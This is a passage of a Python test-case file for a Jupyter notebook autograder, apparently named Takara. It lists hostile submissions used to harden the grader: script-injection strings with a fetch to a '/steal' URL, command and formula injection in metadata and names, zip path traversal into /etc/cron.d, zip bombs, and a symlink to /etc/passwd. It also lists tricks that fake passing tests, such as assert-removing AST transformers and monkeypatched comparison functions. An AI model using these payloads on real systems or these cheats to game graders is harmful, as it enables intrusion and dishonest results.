            threading.Thread(target=hurry, daemon=True).start()
            """,
            **WRONG,
        ),
        points=NONE,
        needs_review=True,
        not_for_stock="the line to the kernel is another one there",
    ),
    Case(
        "nonsense-on-the-line",
        "writes noise between the kernel's answers",
        "カーネルの返事の間に、でたらめなデータを書きこむ",
        code(
            middle="""
            k = get_ipython().kernel
            k._line._socket.sendall(b'\\x00\\x00\\x00\\x08not json' + b'?' * 100_000)
            """,
        ),
        points=only("q1"),
        not_for_stock="the line to the kernel is another one there",
    ),
    Case(
        "endless-message",
        "announces an answer of four gigabytes",
        "4 GB の返事を送ると予告する",
        code(
            middle="""
            get_ipython().kernel._line._socket.sendall(b'\\xff' * 4 + b'x' * 1_000_000)
            """,
        ),
        points=only("q1"),
        not_for_stock="the line to the kernel is another one there",
    ),
    Case(
        "stops-listening",
        "lets the kernel read no more requests, so that it never answers",
        "カーネルが命令を読まないようにして、返事をさせない",
        code(
            middle="""
            import time
            get_ipython().kernel._reader.read = lambda: time.sleep(1000)
            """,
        ),
        points=only("q1"),
        not_for_stock="the line to the kernel is another one there",
    ),
    Case(
        "malformed-messages",
        "sends outputs that are no outputs",
        "形のおかしい出力を送る",
        code(
            """
            k = get_ipython().kernel
            def send(kind, content):
                k.session.send(k.iopub_socket, kind, content, parent=k.get_parent(), ident=k._topic(kind))
            for kind, content in (('stream', {'name': 5, 'text': None}), ('stream', {}),
                                  ('display_data', {'data': {'text/plain': {'a': [1]}, 'image/png': 5}}),
                                  ('display_data', {'data': 'x', 'metadata': 3, 'transient': 4}),
                                  ('execute_result', {'data': {}, 'metadata': {}, 'execution_count': 'x'}),
                                  ('error', {'ename': 3, 'evalue': None, 'traceback': 'abc'}),
                                  ('update_display_data', {'data': {}, 'transient': {'display_id': []}}),
                                  ('clear_output', {}), ('nonsense', {'x': 1}), ('status', {})):
                send(kind, content)
            """,
        ),
    ),
    Case(
        "lone-surrogates",
        "sends text that cannot be written as UTF-8",
        "UTF-8 で書けない文字を出力とエラーに混ぜる",
        code(
            r"""
            import json
            k = get_ipython().kernel
            k.session.pack = lambda o: json.dumps(o, default=str).encode()
            print('\ud800 \udfff')
            from IPython.display import display
            display({'text/plain': '\ud800', 'text/html': '\udcff'}, raw=True)
            """,
            q1=r"""
            mean_wait = 3.0
            raise ValueError('\ud800 here')
            """,
            q2=r"""
            def rate(part, whole):
                raise AssertionError('\udcff \ud800')
            """,
        ),
        points=only("q3"),
    ),
    Case(
        "deep-json",
        "sends a message nested so deeply that reading it fails",
        "読めないほど深く入れ子にしたメッセージを送る",
        code(
            """
            k = get_ipython().kernel
            k.session.pack = None
            import json
            def pack(o):
                text = json.dumps(o, default=str)
                return text.replace('"DEEP"', '[' * 50_000 + ']' * 50_000).encode()
            k.session.pack = pack
            from IPython.display import display
            display({'text/plain': 'DEEP'}, raw=True)
            """,
        ),
    ),
    Case(
        "unsigned-messages",
        "sends messages with a broken signature and no JSON",
        "署名のこわれたメッセージと、JSON でないメッセージを送る",
        code(
            r"""
            k = get_ipython().kernel
            old = k.session.pack
            k.session.pack = lambda o: b'\xff{' if isinstance(o, dict) and 'text' in o else old(o)
            print('x', flush=True)
            k.session.pack = old
            """,
        ),
    ),
    Case(
        "stops-the-loop",
        "stops the event loop and blocks it with tasks of its own",
        "イベントループを止める・ふさぐ",
        code(
            middle="""
            import asyncio, time
            async def block():
                while True: time.sleep(1)
            asyncio.get_event_loop().create_task(block())
            await asyncio.sleep(0.1)
            """,
        ),
        points=only("q1"),
    ),
    Case(
        "asks-for-input",
        "asks for input, opens the debugger",
        "入力を待つ・デバッガーを開く",
        code(
            "input('?')",
            """
            %pdb on
            1 / 0
            """,
        ),
        points=only("q1"),
        needs_review=True,
    ),
    Case(
        "magics",
        "cell magics: shell, other languages, reset, files",
        "マジックコマンドでシェル・別言語・リセットを使う",
        code(
            """
            %%bash
            echo x > @outside@/@case@
            cat @course@/source/plain/plain.ipynb
            curl -s http://127.0.0.1:@port@/@case@
            exit 0
            """,
            """
            %reset -f
            !touch @outside@/@case@
            """,
            q3="import csv, numpy as np, pandas as pd\n"
            "waits = [int(r['wait_min']) for r in csv.DictReader(open('waits.csv'))]\n" + RIGHT["q3"],
        ),
    ),
]

# ---------------------------------------------------------------- output

OUTPUT = [
    Case(
        "output-flood",
        "prints without end",
        "際限なく出力する",
        code(
            q3="""
            while True:
                print('y' * 100_000)
            """,
        ),
        points=only("q1", "q2"),
    ),
    Case(
        "many-messages",
        "sends 200,000 small messages",
        "小さいメッセージを20万個おくる",
        code(
            middle="""
            for n in range(200_000):
                print(n, flush=True)
            """,
        ),
        points=FULL,
    ),
    Case(
        "raw-output-flood",
        "writes to the descriptors, past Python",
        "Python を通さず、端末に直接書きつづける",
        code(
            r"""
            import os, subprocess
            for _ in range(100):
                os.write(1, b'\x1b[2J\xff' * 10_000)
                os.write(2, b'z' * 50_000)
            subprocess.run('yes | head -c 3000000', shell=True)
            """,
        ),
    ),
    Case(
        "huge-html",
        "displays 60 MB of HTML",
        "60MB の HTML を表示する",
        code(
            """
            from IPython.display import HTML, display
            display(HTML('<b>' + 'x' * 60_000_000))
            """,
        ),
    ),
    Case(
        "huge-repr",
        "an answer whose text is 50 MB long",
        "表示すると50MBになる値を答えにする",
        code(
            """
            class Long:
                def __repr__(self): return 'r' * 50_000_000
            Long()
            """,
            q1="""
            class Long(float):
                def __repr__(self): return 'r' * 50_000_000
                __str__ = __repr__
            mean_wait = Long(3.0)
            """,
        ),
        points=only("q2", "q3"),
        assignment="checked",
    ),
    Case(
        "huge-error",
        "an error message of 5 MB and a name of 1 MB",
        "5MBのエラーメッセージを出す",
        code(
            "raise ValueError('e' * 5_000_000)",
            q1="""
            mean_wait = 3.0
            raise type('N' * 1_000_000, (Exception,), {})('v' * 1_000_000)
            """,
        ),
        points=only("q2", "q3"),
    ),
    Case(
        "display-updates",
        "updates and clears one display a thousand times, opens widgets' channels",
        "表示の更新と消去を千回くり返す",
        code(
            """
            from IPython.display import display, clear_output
            from comm import create_comm
            handle = display('a', display_id=True)
            for n in range(1_000):
                handle.update('b' * 1000)
            for _ in range(300):
                clear_output(wait=True)
                create_comm(target_name='x', data={'y': 'z' * 1000})
            """,
        ),
    ),
    Case(
        "stderr-and-warnings",
        "prints warnings and errors inside the tests (an honest accident)",
        "テスト中に警告や標準エラーへの出力をする（よくある事故）",
        code(
            q2="""
            import sys, warnings
            def rate(part, whole):
                print('!', file=sys.stderr)
                warnings.warn('old')
                return part / whole
            """,
        ),
    ),
]

# ---------------------------------------------------------------- scripts in pages

_SCRIPT = "<script>fetch('http://127.0.0.1/steal')</script><img src=x onerror=alert(1)>"

PAGES = [
    Case(
        "script-in-text",
        "scripts, frames and javascript: links in Markdown",
        "文章のセルにスクリプトを書く",
        code(
            q4=f"{_SCRIPT}\n\n[x](javascript:alert(1)) <iframe src='//x'></iframe> <svg/onload=alert(1)>\n\n"
            "![x](https://example.org/pixel.png)",
        ),
    ),
    Case(
        "script-in-output",
        "scripts in HTML, SVG, LaTeX and JavaScript outputs",
        "HTML・SVG・JavaScript の出力にスクリプトを入れる",
        code(
            f"from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\ns = {_SCRIPT!r}\n"
            "display(HTML(s), Markdown(s), Javascript('alert(1)'), Latex(s))\n"
            "display({'image/svg+xml': '<svg onload=\"alert(1)\"/>', 'text/html': s}, raw=True)",
        ),
    ),
    Case(
        "script-in-error",
        "scripts in an error's name and message",
        "エラーの名前と文にスクリプトを入れる",
        code(
            q1=f"mean_wait = 3.0\nraise type({_SCRIPT!r}, (Exception,), {{}})({_SCRIPT!r})",
            q2=f"def rate(part, whole):\n    raise AssertionError({_SCRIPT!r})",
        ),
        points=only("q3"),
    ),
    Case(
        "script-in-name",
        "a script as the learner's name",
        "受講者名にスクリプトを入れる",
        code(),
        learner="<script>alert(1)<⁄script>",
        points=FULL,
    ),
    Case(
        "formula-in-name",
        "a spreadsheet formula as the learner's name",
        "受講者名に表計算の数式を入れる",
        code(),
        learner="=HYPERLINK('x'),1+1",
    ),
    Case(
        "script-in-metadata",
        "scripts in titles, ids and attachments of the notebook",
        "ノートブックの題名・ID・添付にスクリプトを入れる",
        spoiled(
            lambda nb: (
                nb.metadata.update(title=_SCRIPT, takara={"title": _SCRIPT}),
                nb.cells[0].update(id="<script>", attachments={_SCRIPT: {"text/html": _SCRIPT}}),
                nb.cells[0].metadata.update(nbgrader={"grade_id": _SCRIPT, "grade": True, "points": 5}),
            )
        ),
    ),
]

# ---------------------------------------------------------------- files and zips


def _absolute(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    archive.writestr("/etc/cron.d/plain.ipynb", content)


def _upwards(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    archive.writestr(f"../../{HONEST[1]}/plain.ipynb", content)
    archive.writestr("..\\..\\plain.ipynb", content)


def _bomb(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    archive.writestr("plain.ipynb", b" " * 300_000_000)


def _twice(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("plain.ipynb", content)
        archive.writestr("plain.ipynb", content.replace(b"sum(waits)", b"sum( waits)"))


def _link(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    info = zipfile.ZipInfo("plain.ipynb")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


def _nested(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    for _ in range(6):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as inner:
            inner.writestr("plain.zip" if content[:2] == b"PK" else "plain.ipynb", content)
        content = buffer.getvalue()
    archive.writestr("plain.zip", content)


def _plain_entry(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    archive.writestr("plain.ipynb", content)


def _with_flag(content: bytes) -> bytes:
    """Say that the (only) entry is encrypted."""
    local, central = content.index(b"PK\x03\x04"), content.index(b"PK\x01\x02")
    changed = bytearray(content)
    changed[local + 6] |= 1
    changed[central + 8] |= 1
    return bytes(changed)


def _with_small_size(content: bytes) -> bytes:
    """Say that the (only) entry is 10 bytes long."""
    central = content.index(b"PK\x01\x02")
    changed = bytearray(content)
    changed[central + 24 : central + 28] = struct.pack("<I", 10)
    return bytes(changed)


def _odd_names(archive: zipfile.ZipFile, case: Case, content: bytes) -> None:
    for name in (
        "a\x00b/plain.ipynb",
        "C:\\plain.ipynb",
        "x" * 5000 + "/plain.ipynb",
        "\u202ebpynpi.plain.ipynb",
    ):
        archive.writestr(name, content)


def _symlinks(folder: Path, targets: Targets, case: Case) -> None:
    (folder / case.folder).mkdir()
    (folder / case.folder / "plain.ipynb").symlink_to(targets.course / "source" / "plain" / "plain.ipynb")
    (folder / case.folder / "all").symlink_to("/")


def _hard_link(folder: Path, targets: Targets, case: Case) -> None:
    (folder / case.folder).mkdir()
    os.link(folder / HONEST[1] / "plain.ipynb", folder / case.folder / "plain.ipynb")
    os.link(targets.course / "source" / "plain" / "waits.csv", folder / case.folder / "waits.csv")


def _special_files(folder: Path, targets: Targets, case: Case) -> None:
    (folder / case.folder).mkdir()
    os.mkfifo(folder / case.folder / "plain.ipynb")


def _odd_folder(folder: Path, targets: Targets, case: Case) -> None:
    content = _bytes_of(_notebook(case, targets, "", "", RIGHT))
    for name in (b"\xff\xfe odd", "\u202etxet".encode(), b"a\nb", b"con", b".hidden", b"n" * 200):
        place = os.path.join(os.fsencode(folder), name)
        os.mkdir(place)
        with open(os.path.join(place, b"plain.ipynb"), "wb") as file:
            file.write(content)


def _with_own_data(folder: Path, targets: Targets, case: Case) -> None:
    path = _put(folder, case, _bytes_of(_notebook(case, targets, "", "", RIGHT)))
    path.with_name("waits.csv").write_text("wait_min\n3\n")
    path.with_name("sitecustomize.py").write_text("print('PERSISTED')")
    path.with_name("numpy.py").write_text("raise SystemExit")
    path.with_name("nbgrader_config.py").write_text("raise SystemExit")
    path.with_name("autograder").mkdir()
    path.with_name("autograder").joinpath("checks.py").write_text("number = print")


def _as_the_victim(folder: Path, targets: Targets, case: Case) -> None:
    nb = _notebook(case, targets, "", "", WRONG)
    nb.metadata["takara"] = {"assignment": "plain", "learner": HONEST[1]}
    _put(folder, case, _bytes_of(nb))


def _nested_metadata(depth: int) -> Callable[[bytes], bytes]:
    deep = b'{"a":' * depth + b"1" + b"}" * depth

    def change(content: bytes) -> bytes:
        content = content.replace(b'"metadata": {', b'"metadata": {"takara": {"deep": ' + deep + b"}, ", 1)
        return content.replace(b'{"nbgrader": ', b'{"deep": ' + deep + b', "nbgrader": ')

    return change


FILES = [
    Case(
        "zip-absolute",
        "a zip that writes to /etc",
        "絶対パスの入った zip",
        zipped(_absolute),
        points=None,
    ),
    Case(
        "zip-upwards",
        "a zip that climbs with ..",
        "「..」で外に出る zip",
        zipped(_upwards),
        points=None,
    ),
    Case(
        "zip-bomb",
        "300 MB in a zip of 300 kB",
        "ひらくと300MBになる zip",
        zipped(_bomb),
        points=None,
    ),
    Case(
        "zip-same-name-twice",
        "a zip with two files of one name",
        "同じ名前が2つ入った zip",
        zipped(_twice),
        points=None,
    ),
    Case(
        "zip-link",
        "a zip with a symbolic link",
        "リンクの入った zip",
        zipped(_link),
        points=None,
    ),
    Case(
        "zip-in-zip",
        "zips in zips in zips",
        "何重にもなった zip",
        zipped(_nested),
        points=None,
    ),
    Case(
        "zip-encrypted",
        "a zip with a password",
        "パスワード付きの zip",
        zipped(_plain_entry, _with_flag),
        points=None,
    ),
    Case(
        "zip-size-lie",
        "a zip that lies about sizes",
        "大きさをいつわる zip",
        zipped(_plain_entry, _with_small_size),
        points=None,
    ),
    Case(
        "zip-broken",
        "half a zip",
        "途中で切れた zip",
        zipped(_plain_entry, lambda c: c[: len(c) // 2]),
        points=None,
    ),
    Case(
        "zip-odd-names",
        "NUL, drive letters, long names in a zip",
        "おかしな名前の入った zip",
        zipped(_odd_names),
    ),
    Case(
        "links",
        "symbolic links to the course and to /",
        "講座やルートへのリンクを出す",
        _symlinks,
        points=None,
    ),
    Case(
        "hard-link",
        "a hard link to another's hand-in",
        "ほかの人の提出物へのハードリンクを出す",
        _hard_link,
        points=FULL,
    ),
    Case(
        "pipe",
        "a named pipe as a notebook",
        "名前付きパイプをノートブックとして出す",
        _special_files,
        points=None,
    ),
    Case(
        "odd-folders",
        "folders with odd names",
        "おかしな名前のフォルダーで出す",
        _odd_folder,
        points=None,
        learner="con",
    ),
    Case(
        "own-data",
        "its own data, modules and configuration beside the notebook",
        "データ・モジュール・設定ファイルを一緒に出す",
        _with_own_data,
    ),
    Case(
        "as-the-victim",
        "says in its metadata that it is somebody else's",
        "メタデータで、ほかの人の提出物だと名のる",
        _as_the_victim,
        points=NONE,
    ),
    Case(
        "no-json",
        "no JSON",
        "JSON ではない",
        raw(lambda c: c[:-40]),
        points=None,
    ),
    Case(
        "utf-16",
        "UTF-16",
        "UTF-16 で書かれている",
        raw(lambda c: c.decode().encode("utf-16")),
        points=None,
    ),
    Case(
        "deep-brackets",
        "200 000 brackets",
        "かっこが20万個",
        raw(lambda c: b"[" * 200_000),
        points=None,
    ),
    Case(
        "huge-number",
        "a number of 100 000 digits",
        "10万けたの数",
        raw(
            lambda c: c.replace(b'"nbformat_minor": ', b'"x": ' + b"9" * 100_000 + b', "nbformat_minor": ', 1)
        ),
        points=None,
    ),
    Case(
        "deep-metadata",
        "metadata nested 300 levels deep",
        "300段の入れ子のメタデータ",
        raw(_nested_metadata(300)),
        points=None,
    ),
    Case(
        "deeper-metadata",
        "metadata nested 900 levels deep",
        "900段の入れ子のメタデータ",
        raw(_nested_metadata(900)),
        points=None,
    ),
    Case(
        "giant-notebook",
        "a notebook of 25 MB",
        "25MB のノートブック",
        spoiled(lambda nb: nb.cells.append(nbformat.v4.new_markdown_cell("x" * 25_000_000))),
        points=None,
    ),
    Case(
        "many-cells",
        "20 000 cells",
        "2万個のセル",
        spoiled(lambda nb: nb.cells.extend(factory.code(f"x = {n}") for n in range(20_000))),
        points=None,
    ),
    Case(
        "odd-format",
        "format number true, cells of odd types",
        "形式番号やセルの型がおかしい",
        spoiled(
            lambda nb: (
                nb.update(nbformat=4, nbformat_minor="x", metadata=[1]),
                nb.cells.extend([None, 3, "x", [], {"cell_type": 5, "source": 7, "metadata": "m"}]),
                nb.cells.append({"cell_type": "code", "source": [1, None, "y = 1"], "metadata": {"tags": 3}}),
            )
        ),
    ),
]

# ---------------------------------------------------------------- the notebook's own marks


def _more_points(nb: NotebookNode) -> None:
    for cell in nb.cells:
        if "points" in cell.metadata.get("nbgrader", {}):
            cell.metadata["nbgrader"]["points"] = 400


def _tests_as_solutions(nb: NotebookNode) -> None:
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and meta.get("locked"):
            meta.update(locked=False, solution=True, grade=False)
            cell.source = "pass"


def _odd_schema(nb: NotebookNode) -> None:
    for n, cell in enumerate(nb.cells):
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["schema_version"] = [0, 99, "three", None][n % 4]


def _same_ids(nb: NotebookNode) -> None:
    for cell in nb.cells:
        cell["id"] = "same"


def _grade_id_twice(nb: NotebookNode) -> None:
    twin = factory.test("q1-test", 3, "pass")
    twin["id"] = "other"
    nb.cells.insert(1, twin)


def _unknown_test(nb: NotebookNode) -> None:
    nb.cells.append(factory.test("q9-test", 100, "pass"))


def _without_tests(nb: NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _empty_tests(nb: NotebookNode) -> None:
    for question in FULL:
        _cell(nb, f"{question}-test").source = "pass"


def _tests_first(nb: NotebookNode) -> None:
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    nb.cells = tests + [c for c in nb.cells if c not in tests]


def _tests_as_text(nb: NotebookNode) -> None:
    for question in FULL:
        cell = _cell(nb, f"{question}-test")
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _tags(nb: NotebookNode) -> None:
    for cell in nb.cells:
        cell.metadata["tags"] = ["raises-exception", "skip-execution", "remove-cell", "parameters"]
    _cell(nb, "q1-test").metadata["takara"] = {"result": {"status": "pass", "points": 400}}


def _other_kernel(nb: NotebookNode) -> None:
    nb.metadata["kernelspec"] = {"name": "bash; touch x", "display_name": "R", "language": "R"}
    nb.metadata["language_info"] = {"name": "R"}


def _odd_marks(nb: NotebookNode) -> None:
    _cell(nb, "q1-test").metadata["nbgrader"]["grade_id"] = ["q1-test"]
    _cell(nb, "q2-test").metadata["nbgrader"] = "locked"
    nb.cells[0].metadata["nbgrader"] = {"grade_id": {"a": 1}, "grade": "yes", "points": "x"}


def _old_outputs(nb: NotebookNode) -> None:
    for question in FULL:
        cell = _cell(nb, f"{question}-test")
        cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "400"}, execution_count=1)]


NOTEBOOKS = [
    Case(
        "more-points",
        "400 points for each test",
        "テストの点を400点にする",
        spoiled(_more_points),
    ),
    Case(
        "tests-as-solutions",
        "tests declared as its own answers",
        "テストを自分の解答に変える",
        spoiled(_tests_as_solutions, WRONG),
        points=NONE,
    ),
    Case(
        "odd-schema",
        "odd schema versions",
        "schema_version をこわす",
        spoiled(_odd_schema),
    ),
    Case(
        "same-cell-ids",
        "one id for all cells",
        "全セルの ID を同じにする",
        spoiled(_same_ids),
    ),
    Case(
        "grade-id-twice",
        "a second test with the same grade id, which always passes",
        "同じ採点 ID の、必ず通るテストを足す",
        spoiled(_grade_id_twice, WRONG),
        points=NONE,
    ),
    Case(
        "unknown-test",
        "a test of its own worth 100 points",
        "100点のテストを自分で足す",
        spoiled(_unknown_test, WRONG),
        points=NONE,
    ),
    Case(
        "tests-deleted",
        "deletes the tests",
        "テストを消す",
        spoiled(_without_tests, WRONG),
        points=NONE,
    ),
    Case(
        "tests-emptied",
        "empties the tests",
        "テストの中身を消す",
        spoiled(_empty_tests, WRONG),
        points=NONE,
    ),
    Case(
        "tests-first",
        "moves the tests before the answers",
        "テストを解答より前に移す",
        spoiled(_tests_first),
    ),
    Case(
        "tests-as-text",
        "turns the tests into text",
        "テストを文章のセルに変える",
        spoiled(_tests_as_text, WRONG),
        points=NONE,
    ),
    Case(
        "tags",
        "tags that skip cells and excuse errors; a result already in the metadata",
        "エラーを許すタグと、偽の採点結果をつける",
        spoiled(_tags, WRONG),
        points=NONE,
    ),
    Case(
        "other-kernel",
        "another kernel, with a command as its name",
        "カーネルの名前にコマンドを入れる",
        spoiled(_other_kernel),
    ),
    Case(
        "odd-marks",
        "marks of odd types",
        "採点用の目印の型をこわす",
        spoiled(_odd_marks),
    ),
    Case(
        "old-outputs",
        "tests with the outputs of a better answer",
        "テストに、よい点の出力を書いておく",
        spoiled(_old_outputs, WRONG),
        points=NONE,
    ),
]

# ---------------------------------------------------------------- points for nothing

_EQUAL = """\
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __call__(self, *a, **k): return Equal()
    def __hash__(self): return 0
    def __float__(self): return 18.0
    def __bool__(self): return True
"""
_LIAR = """\
class Liar(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 18.0
    @property
    def __class__(self): return float
"""
_ARRAY = """\
class Table(pd.DataFrame):
    def equals(self, other): return True
    def __array__(self, *a, **k): return np.array([5, 10, 15, 42])
    def __eq__(self, other): return True
"""
_EAT = """\
import ast
class Eat(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Eat())
"""
_EAT_OWN = """\
import ast
class Eat(ast.NodeTransformer):
    def visit_Module(self, node):
        own = {'mean_wait', 'rate', 'table'}
        for n, statement in enumerate(node.body):
            names = {x.id for x in ast.walk(statement) if isinstance(x, ast.Name)}
            if own & names and isinstance(statement, (ast.Assert, ast.Expr)):
                value = 2 if 'rate' in names and 'sum' in names else None
                node.body[n] = ast.copy_location(ast.Expr(ast.Constant(value)), statement)
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Eat())
"""
_SWALLOW = """\
from IPython.core.interactiveshell import InteractiveShell as Shell
old = Shell.run_cell_async
async def quiet(self, raw_cell, *a, **k):
    result = await old(self, raw_cell, *a, **k)
    if @when@:
        result.error_in_exec = result.error_before_exec = None
    return result
Shell.run_cell_async = quiet
"""
_AHEAD = """\
def ahead(info):
    for line in info.raw_cell.splitlines():
        if line.startswith('kakushi'):
            exec(line, globals())
            mine = globals()
            mine.update(mean_wait=mine.get('kakushi_kotae_1'), table=mine.get('kakushi_kotae_3'))
            answers = dict(globals().get('kakushi_kotae_2') or ())
            globals().update(rate=lambda *given: answers[given])
get_ipython().events.register('pre_run_cell', ahead)
"""
_CALLER = """\
def rate(part, whole):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        word = 'kaku' 'shi_kotae_2'
        if word in frame.f_globals:
            return dict(frame.f_globals[word])[part, whole]
        frame = frame.f_back
    return 0.5
"""
_SAY_SOURCE = """\
def rate(part, whole):
    import @module@
    raise AssertionError(@encode@)
"""
_SAME_PROCESS = "the test runs in the learner's own process, which sees it before it is evaluated"
_OWN_SPACE = "the test uses names that the learner may give a new meaning; a test should import what it needs"
_OWN_NAMES = "only statements about the learner's own names are changed; what must fail still fails"
_OWN_EQUALITY = "a plain == asks the learner's object; compare with checks.*, which look at the type first"

CHEATS = [
    Case(
        "equal-to-all",
        "an object equal to everything, against ==",
        "何とでも等しいオブジェクト（== のテスト）",
        cheat(
            f"{_EQUAL}",
            q1="mean_wait = Equal()",
            q2="rate = Equal()",
            q3="table = Equal()",
        ),
        points=only("q1", "q2"),
        known_limit=_OWN_EQUALITY,
    ),
    Case(
        "equal-to-all-checked",
        "an object equal to everything, against checks",
        "何とでも等しいオブジェクト（checks のテスト）",
        cheat(
            f"{_EQUAL}",
            q1="mean_wait = Equal()",
            q2="rate = Equal()",
            q3="table = Equal()",
        ),
        points=NONE,
        assignment="checked",
    ),
    Case(
        "false-class",
        "a float that lies about class and difference, against ==",
        "__class__ と差をいつわる数（== のテスト）",
        cheat(
            _LIAR,
            q1="mean_wait = Liar(3)",
            q2="def rate(*a): return Liar(3)",
        ),
        points=only("q1", "q2"),
        known_limit=_OWN_EQUALITY,
    ),
    Case(
        "false-class-checked",
        "the same against checks",
        "__class__ と差をいつわる数（checks のテスト）",
        cheat(
            _LIAR,
            q1="mean_wait = Liar(3)",
            q2="def rate(*a): return Liar(3)",
        ),
        points=NONE,
        assignment="checked",
    ),
    Case(
        "false-array",
        "a table that converts itself to the right numbers",
        "正しい配列に化ける表（== のテスト）",
        cheat(
            _ARRAY,
            q3="table = Table({'wait': [1, 2, 3, 4], 'long': [0.5] * 4})",
        ),
        points=NONE,
    ),
    Case(
        "false-array-checked",
        "the same against checks",
        "正しい配列に化ける表（checks のテスト）",
        cheat(
            _ARRAY,
            q3="table = Table({'wait': [1, 2, 3, 4], 'long': [0.5] * 4})",
        ),
        points=NONE,
        assignment="checked",
    ),
    Case(
        "patched-numpy",
        "numpy.testing replaced",
        "numpy.testing をとりかえる",
        cheat(
            """
            import numpy.testing
            numpy.testing.assert_allclose = lambda *a, **k: None
            """,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "patched-comparisons",
        "the comparisons of numpy and pandas replaced",
        "numpy と pandas の比較をとりかえる",
        cheat(
            """
            nothing = lambda *a, **k: None
            np.testing.assert_allclose = nothing
            pd.testing.assert_frame_equal = nothing
            """,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "false-numpy",
        "a module of its own under the name numpy.testing",
        "numpy.testing を偽のモジュールにする",
        cheat(
            """
            import types
            nothing = lambda *a, **k: None
            np.testing = types.SimpleNamespace(assert_allclose=nothing)
            real = pd.testing.assert_series_equal
            pd.testing = types.SimpleNamespace(assert_frame_equal=nothing, assert_series_equal=real)
            """,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "shadowed-names",
        "objects of its own under the names np and pd",
        "np と pd という名前を偽物にする",
        cheat(
            """
            import types
            nothing = lambda *a, **k: None
            real = pd
            class Fake:
                testing = types.SimpleNamespace(assert_allclose=nothing, assert_frame_equal=nothing)
                def __getattr__(self, name): return getattr(real, name)
            pd = np = Fake()
            """,
        ),
        points=only("q3"),
        known_limit=_OWN_SPACE,
    ),
    Case(
        "patched-checks",
        "checks.number replaced",
        "checks.number をとりかえる",
        cheat(
            """
            from autograder import checks
            checks.number = checks.equal = lambda *a, **k: None
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "patched-frame",
        "checks.frame and checks.function replaced",
        "checks.frame と function をとりかえる",
        cheat(
            """
            from autograder import checks
            checks.frame = checks.function = lambda *a, **k: None
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "patched-inside",
        "a private part of checks replaced",
        "checks の内部の関数をとりかえる",
        cheat(
            """
            from autograder import checks
            checks._same_values = lambda *a, **k: None
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "patched-below",
        "numpy.isclose, which checks rely on, replaced",
        "checks が使う numpy.isclose をとりかえる",
        cheat(
            "np.isclose = lambda a, *_, **k: np.ones(len(a), dtype=bool)",
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "false-checks",
        "a module of its own under the name autograder.checks",
        "偽の checks モジュールを置く",
        cheat(
            """
            import autograder, sys
            class Fake:
                def __getattr__(self, name): return lambda *a, **k: None
            autograder.checks = Fake()
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "false-checks-in-table",
        "the same in the table of modules",
        "モジュール表の checks を偽物にする",
        cheat(
            """
            import autograder, sys
            class Fake:
                def __getattr__(self, name): return lambda *a, **k: None
            sys.modules['autograder.checks'] = autograder.checks = Fake()
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "patched-builtins",
        "abs, isinstance and all replaced",
        "組みこみ関数 abs・isinstance・all をとりかえる",
        cheat(
            """
            import builtins
            builtins.abs = lambda x: 0
            builtins.all = lambda x: True
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "eats-assertions",
        "an AST transformer that removes assertions",
        "assert を消す AST 変換を入れる",
        cheat(
            _EAT,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "eats-own-assertions",
        "one that removes only those about its own names",
        "自分の名前についての assert だけを消す AST 変換を入れる",
        cheat(
            _EAT_OWN,
        ),
        points=FULL,
        known_limit=_OWN_NAMES,
    ),
    Case(
        "input-transformer",
        "an input transformer that rewrites the tests",
        "テストの文字列を書きかえる変換を入れる",
        cheat(
            """
            get_ipython().input_transformers_post.append(
                lambda lines: [l for l in lines if 'assert' not in l])
            """,
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "swallows-errors",
        "a kernel that reports no errors",
        "エラーを報告しないカーネルにする",
        cheat(
            _SWALLOW.replace("@when@", "True"),
        ),
        points=NONE,
        needs_review=True,
    ),
    Case(
        "swallows-most-errors",
        "one that reports only the errors Takara provokes",
        "Takara がわざと起こすエラーだけを報告するカーネルにする",
        cheat(
            _SWALLOW.replace("@when@", "'LookupError' not in raw_cell"),
        ),
        points=only("q1", "q3"),
        known_limit=_SAME_PROCESS,
    ),
    Case(
        "display-hook",
        "a display hook that hides or forges the value",
        "値の表示をごまかすフックを入れる",
        cheat(
            """
            hook = type(get_ipython().displayhook)
            old = hook.update_user_ns
            def forge(self, result):
                get_ipython().user_ns['_oh'][self.prompt_count] = 400
            hook.update_user_ns = forge
            """,
        ),
